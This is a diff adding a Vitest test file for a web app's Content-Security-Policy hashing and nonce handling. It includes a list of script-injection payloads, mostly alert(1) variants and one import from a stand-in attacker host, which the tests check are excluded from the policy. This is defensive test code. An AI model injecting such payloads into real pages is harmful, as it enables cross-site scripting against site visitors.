@@ -1,0 +1,46 @@
+import { createHash } from "node:crypto";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import { expect, it } from "vitest";
+import { loader } from "../../../scripts/server/paint-first.mjs";
+import { giveNonce, hashedPolicy } from "../../../scripts/server/script-policy.mjs";
+
+const policy = "default-src 'self'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'";
+const sha = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;
+
+it("a kept page's policy names the framework's inline scripts and ours, nothing else", () => {
+  const start = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[9]});';
+  const data = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
+  const first = "(self.__next_f=self.__next_f||[]).push([0])";
+  const ours = `${loader}["/_next/static/a.js"])`;
+  const smuggled = ["alert(1)", 'self.__next_f.push([1,"x"]);alert(1)', "self.__next_f.push([alert(1)])", 'self.__next_f.push([1,"x"],alert(1))', `${loader}alert(1))`, `${loader}[]);alert(1)`, " ", "import('//evil.example/x.js')"];
+  const html = [`<script id="_R_">${start}</script>`, `<script>${first}</script><script>${data}</script>`, '<script type="application/ld+json">{"@type":"NGO"}</script>', '<script src="/_next/static/chunks/a.js" async=""></script>', `<script>${ours}</script>`, ...smuggled.map((code) => `<script>${code}</script>`)].join("<p>text</p>");
+  expect(hashedPolicy(policy, html)).toBe(`default-src 'self'; script-src 'self' ${[start, first, data, ours].map(sha).join(" ")}; style-src 'self' 'unsafe-inline'`);
+  expect(hashedPolicy(policy, "<p>no script</p>")).toBe("default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'");
+  expect(hashedPolicy("default-src 'none'", html)).toBe("default-src 'none'");
+  expect(hashedPolicy(undefined, html)).toBeUndefined();
+});
+
+it("pages that are drawn for one visitor get a nonce, a new one each time; a client cannot choose it", async () => {
+  const server = http.createServer((request, response) => {
+    const nonce = giveNonce(request, response);
+    if (request.url!.includes("?object")) response.writeHead(200, { "Content-Security-Policy": policy });
+    else response.setHeader("Content-Security-Policy", policy);
+    response.end(JSON.stringify({ nonce, seen: request.headers["content-security-policy"] ?? null }));
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const ask = async (path: string) => {
+    const answer = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`, { headers: { "content-security-policy": "script-src 'nonce-mine'" } });
+    return { ...((await answer.json()) as { nonce: string | null; seen: string | null }), policy: answer.headers.get("content-security-policy")! };
+  };
+  const nonces = new Set<string>();
+  for (const path of ["/dashboard", "/dashboard?object", "/dashboard/campaigns/new", "/admin/gifts?object", "/registration?step=documents", "/home", "/login?next=%2Fdashboard", "/gifts/mine/x.y", "/af/gifts/x", "/campaigns/two-boats/donate", "/af/campaigns/two-boats/donate?frequency=monthly", "/campaigns/two-boats/payment/success"]) {
+    const { nonce, seen, policy: given } = await ask(path);
+    expect(seen, path).toBe(`script-src 'self' 'nonce-${nonce}'`);
+    expect(given, path).toBe(`default-src 'self'; script-src 'self' 'nonce-${nonce}'; style-src 'self' 'unsafe-inline'`);
+    nonces.add(nonce!);
+  }
+  expect(nonces.size).toBe(12);
+  for (const path of ["/", "/campaigns/two-boats", "/dashboards", "/gifts"]) expect(await ask(path), path).toEqual({ nonce: null, seen: null, policy });
+  server.close();
+});
